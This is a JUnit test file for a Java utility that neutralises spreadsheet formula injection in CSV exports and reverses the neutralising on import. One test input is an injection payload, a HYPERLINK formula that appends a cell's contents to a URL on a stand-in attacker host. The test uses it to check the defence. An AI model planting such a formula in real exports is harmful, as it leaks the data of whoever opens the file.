package io.pareto.dataio;

import static org.junit.jupiter.api.Assertions.assertEquals;

import org.junit.jupiter.api.Test;

/** The apostrophe that defuses a formula in a CSV export, and its removal on import. */
class SpreadsheetSafeTest {
  @Test
  void textStartingWithAFormulaCharacterGetsOneApostrophe() {
    assertEquals(
        "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        SpreadsheetSafe.neutralise("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"));
    assertEquals("'+86 138 0000 0000", SpreadsheetSafe.neutralise("+86 138 0000 0000"));
    assertEquals("'-2+3", SpreadsheetSafe.neutralise("-2+3"));
    assertEquals("'@SUM(A1:A9)", SpreadsheetSafe.neutralise("@SUM(A1:A9)"));
    assertEquals("'\tcmd", SpreadsheetSafe.neutralise("\tcmd"));
    assertEquals("'\rcmd", SpreadsheetSafe.neutralise("\rcmd"));
  }

  @Test
  void harmlessTextIsLeftAsItIs() {
    for (String s : new String[] {"", "华为", "a=b", "O'Brien", "'quoted'", "'", " =spaced", "x-1"}) {
      assertEquals(s, SpreadsheetSafe.neutralise(s));
      assertEquals(s, SpreadsheetSafe.restore(s));
    }
  }

  @Test
  void textThatAlreadyLooksNeutralisedGetsOneMoreSoTheImportRestoresItExactly() {
    assertEquals("''=1", SpreadsheetSafe.neutralise("'=1"));
    assertEquals("'''-x", SpreadsheetSafe.neutralise("''-x"));
    for (String s :
        new String[] {"=1", "'=1", "''=1", "+", "-", "@", "\t", "'@x", "=HYPERLINK(\"x\")"}) {
      assertEquals(s, SpreadsheetSafe.restore(SpreadsheetSafe.neutralise(s)), s);
    }
    assertEquals("=1", SpreadsheetSafe.restore("'=1"));
    assertEquals(null, SpreadsheetSafe.restore(null));
  }
}
